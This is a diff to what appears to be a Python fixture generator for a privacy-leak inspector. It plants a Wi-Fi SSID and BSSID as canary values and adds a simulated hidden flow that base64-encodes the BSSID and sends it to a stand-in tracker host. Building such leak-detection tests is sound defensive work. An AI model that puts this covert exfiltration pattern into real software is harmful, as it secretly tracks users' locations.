@@ -34,6 +34,9 @@ FIELDS = (
     ("id_number", "number"),
 )
 
+HELD = {"SSID": "翠湖路18号_5G", "BSSID": "9e:37:c1:5b:04:d8"}
+"""The inspector's own network, which a phone was read for."""
+
 
 class Leaky:
     """Writes the recording; ``values`` by field."""
@@ -45,6 +48,11 @@ class Leaky:
         self.log.note("seed", seed=SEED)
         self.log.note("run.begin", seed=SEED)
         self.values = {f"{k}.{f}": identity.hand_out(k, f, "typed", "pages/index/index").value for k, f in FIELDS}
+        for field, value in HELD.items():
+            self.log.note(
+                "planted", id=f"device.{field}", kind="wifi", field=field, value=value, interface="device, read"
+            )
+            self.values[f"device.{field}"] = value
         self.count = 0
 
     def __getitem__(self, name: str) -> str:
@@ -112,6 +120,8 @@ def hidden_bodies(leak: Leaky) -> None:
     leak.flow(json.dumps({"at": f"{east:.2f},{north:.2f}"}).encode())
     avatar = base64.b64encode(planted_pictures.avatar(leak["nickname_avatar.picture"])).decode()
     leak.flow(json.dumps({"face": f"data:image/png;base64,{avatar}"}).encode())
+    point = base64.b64encode(leak["device.BSSID"].encode()).decode()
+    leak.flow(json.dumps({"net": leak["device.SSID"], "at": point}).encode(), url="https://collect.track.example/v2")
 
 
 def shown(leak: Leaky) -> int:
